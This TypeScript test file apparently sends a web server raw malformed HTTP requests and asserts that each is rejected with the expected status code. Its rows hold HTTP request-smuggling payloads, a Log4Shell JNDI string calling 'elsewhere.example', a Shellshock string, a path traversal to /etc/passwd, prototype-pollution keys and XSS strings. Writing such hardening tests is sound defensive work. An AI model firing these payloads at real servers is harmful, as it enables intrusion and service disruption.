import { ask, type Row, raw } from '../support/row.ts';

const post =
  'POST /fr/sign-in HTTP/1.1\r\nHost: label.example\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\n';
const get = 'GET /nothing HTTP/1.1\r\nHost: label.example\r\nConnection: close\r\n';
const smuggled = 'GET /fr/lists/files HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n';
const chunked = 'Transfer-Encoding: chunked\r\n';
const early = { early: true } as const;
const chunk = 'x'.repeat(20_000);

/** Two ways to say how long a body is, and lengths that are none: what stands behind the body must not become a request. */
const lengths: readonly (readonly [string, string])[] = [
  ['a length and chunks', `Content-Length: 5\r\n${chunked}\r\n0\r\n\r\n${smuggled}`],
  ['chunks and a length', `${chunked}Content-Length: 5\r\n\r\n0\r\n\r\n${smuggled}`],
  ['two lengths', `Content-Length: 5\r\nContent-Length: 50\r\n\r\nab=cd${smuggled}`],
  ['one length twice', `Content-Length: 5\r\nContent-Length: 5\r\n\r\nab=cd`],
  ['a list of lengths', 'Content-Length: 5, 5\r\n\r\nab=cd'],
  ['a negative length', 'Content-Length: -1\r\n\r\n'],
  ['a length with a sign', 'Content-Length: +5\r\n\r\nab=cd'],
  ['a length in hexadecimal', 'Content-Length: 0x5\r\n\r\nab=cd'],
  ['a length with an exponent', 'Content-Length: 5e0\r\n\r\nab=cd'],
  ['a length with a point', 'Content-Length: 5.0\r\n\r\nab=cd'],
  ['a length of two words', 'Content-Length: 5 5\r\n\r\nab=cd'],
  ['an empty length', 'Content-Length:\r\n\r\n'],
  ['a space before the colon of a length', 'Content-Length : 5\r\n\r\nab=cd'],
  ['a space before the colon of chunks', `Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ['chunks that are not last', `Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${smuggled}`],
  ['an encoding that is none', `Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ['an encoding of identity', `Transfer-Encoding: identity\r\n\r\n0\r\n\r\n${smuggled}`],
  ['an encoding in quotes', `Transfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n${smuggled}`],
  ['an encoding with a control character', `Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n${smuggled}`],
  ['a size of a chunk that is none', `${chunked}\r\nzz\r\nab=cd\r\n0\r\n\r\n`],
  ['a negative size of a chunk', `${chunked}\r\n-5\r\nab=cd\r\n0\r\n\r\n`],
  ['a size of a chunk with a prefix', `${chunked}\r\n0x5\r\nab=cd\r\n0\r\n\r\n`],
  ['a size of a chunk larger than any number', `${chunked}\r\nfffffffffffffffff\r\nab=cd\r\n0\r\n\r\n`],
  ['a chunk that is longer than it says', `${chunked}\r\n5\r\nab=cdef\r\n0\r\n\r\n`],
  ['a chunk that ends with a line end alone', `${chunked}\r\n5\nab=cd\n0\n\n`],
  ['a size of a chunk with a space', `${chunked}\r\n5 \r\nab=cd\r\n0 5\r\n\r\n`],
];

/** Heads that no client writes. */
const heads: readonly (readonly [string, string])[] = [
  ['a header without a colon', `${get}X-Broken\r\n\r\n`],
  ['a header without a name', `${get}: x\r\n\r\n`],
  ['a space in the name of a header', `${get}X Y: z\r\n\r\n`],
  ['a NUL in a header', `${get}X: a\0b\r\n\r\n`],
  ['a NUL in the name of a header', `${get}X\0: a\r\n\r\n`],
  ['a carriage return alone in a header', `${get}X: a\rY: b\r\n\r\n`],
  ['a header with brackets', `${get}X[a]: b\r\n\r\n`],
  ['a header of a letter with an accent', `${get}\xe9: b\r\n\r\n`],
  ['a space before the first header', 'GET /nothing HTTP/1.1\r\n Host: label.example\r\n\r\n'],
  ['a tab in the first line', 'GET\t/nothing\tHTTP/1.1\r\nHost: label.example\r\n\r\n'],
  ['a version that is none', 'GET /nothing HTTP/9.9\r\nHost: label.example\r\n\r\n'],
  ['a version of one number', 'GET /nothing HTTP/2\r\nHost: label.example\r\n\r\n'],
  ['a version in small letters', 'GET /nothing http/1.1\r\nHost: label.example\r\n\r\n'],
  ['the beginning of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ['the beginning of TLS', '\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03'],
  ['the beginning of SSH', 'SSH-2.0-OpenSSH_9.9\r\n'],
  ['a command of a mail server', 'EHLO elsewhere.example\r\n'],
  ['a command of a database', '*1\r\n$4\r\nINFO\r\n'],
  ['an answer in place of a request', 'HTTP/1.1 200 OK\r\n\r\n'],
  ['bytes of chance', '\xde\xad\xbe\xef\0\x01\x02\x03\r\n\r\n'],
];

/** Headers that ask a server for more, or take something away on the next hop; an address that is not there shows that they do nothing. */
const headers = [
  'Connection: close, Host',
  'Connection: close, Cookie, X-CSRF-Token',
  'Connection: close, Content-Length',
  'Connection: close, Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
  'Connection: close, Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13',
  'TE: trailers, chunked',
  'Keep-Alive: timeout=999999999, max=-1',
  'Proxy-Connection: keep-alive',
  'Proxy-Authorization: Basic eDp4',
  'Authorization: Bearer eyJhbGciOiJub25lIn0.e30.',
  'Max-Forwards: -1',
  'Via: 1.1 elsewhere, 1.1 elsewhere',
  'X-Original-URL: /fr/lists/files',
  'X-Middleware-Subrequest: middleware:middleware',
  'Range: bytes=0-0',
  `Range: bytes=${Array.from({ length: 1000 }, () => '0-').join()}`,
  'Range: bytes=-9223372036854775808',
  `If-None-Match: ${Array.from({ length: 1000 }, () => '"x"').join(', ')}`,
  `If-None-Match: ${'W/'.repeat(4000)}`,
  `If-None-Match: "${'x'.repeat(8 * 1024)}"`,
  'If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT',
  'If-Match: *',
  'Accept: */*;q=NaN, text/html;q=1e999, ;;;,,,',
  'Accept-Encoding: identity;q=0, *;q=0',
  'Accept-Language: ../../etc/passwd, __proto__;q=1, constructor',
  'Accept-Charset: utf-7',
  'Cache-Control: no-transform, max-age=99999999999999999999',
  'User-Agent: \x24{jndi:ldap://elsewhere.example/a}',
  'User-Agent: () { :; }; echo X-Injected: 1',
  'Referer: javascript:alert(1)',
  'Content-Length: 0\r\nTransfer: chunked',
  'X-Request-Id: forged\tvalue',
  'Sec-Fetch-Dest: <script>',
];

/** What goes wrong below the pages: requests in requests, lengths that disagree, heads that are none, headers of proxies. */
export const wire: readonly Row[] = [
  ...lengths.map(([what, rest]) => raw(what, `${post}${rest}`, 400, early)),
  raw(
    'an extension of a chunk of 20 KB',
    `${post}${chunked}\r\n5;${chunk}\r\nab=cd\r\n0\r\n\r\n`,
    413,
    early,
  ),
  raw('a trailer of 20 KB', `${post}${chunked}\r\n5\r\nab=cd\r\n0\r\nX: ${chunk}\r\n\r\n`, 431, early),
  raw(
    'a trailer with a token',
    `${post}${chunked}Trailer: X-CSRF-Token\r\n\r\n5\r\nab=cd\r\n0\r\nX-CSRF-Token: x\r\n\r\n`,
    403,
  ),
  raw('a request in a body', `${post}Content-Length: ${smuggled.length}\r\n\r\n${smuggled}`, 403),
  raw('a request in a body of a look', `${get}Content-Length: ${smuggled.length}\r\n\r\n${smuggled}`, 404),
  raw(
    'a request in chunks of a look',
    `${get}${chunked}\r\n${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`,
    404,
  ),
  raw('a request behind one that closes', `${get}\r\n${smuggled}`, [400, 404], early),
  ...heads.map(([what, bytes]) => raw(what, bytes, 400, early)),
  raw('a first line of HTTP/0.9', 'GET /nothing\r\n\r\n', 400),
  raw(
    'chunks in an old version',
    `POST /fr/sign-in HTTP/1.0\r\nHost: label.example\r\n${chunked}\r\n0\r\n\r\n${smuggled}`,
    [400, 403],
    early,
  ),
  raw('two spaces in the first line', `${get.replaceAll(' ', '  ')}\r\n`, [400, 404], early),
  raw('another protocol', `${get.replace('HTTP/1.1', 'RTSP/1.0')}\r\n`, [400, 404], early),
  raw('an old version', 'GET /nothing HTTP/1.0\r\nHost: label.example\r\n\r\n', 404),
  ...headers.map((header) =>
    ask(`the header ${header.slice(0, 60)}`, '/nothing', 404, { headers: header.split('\r\n') }),
  ),
  ask('an expectation that is none', '/nothing', 417, { ...early, headers: ['Expect: 200-ok'] }),
  raw(
    'a body that waits for leave and is too large',
    `${post}Expect: 100-continue\r\nContent-Length: 2000000000\r\n\r\n`,
    413,
  ),
  raw(
    'a body that waits for leave where there is no page',
    `POST /nothing HTTP/1.1\r\nHost: label.example\r\nConnection: close\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\n`,
    405,
  ),
];
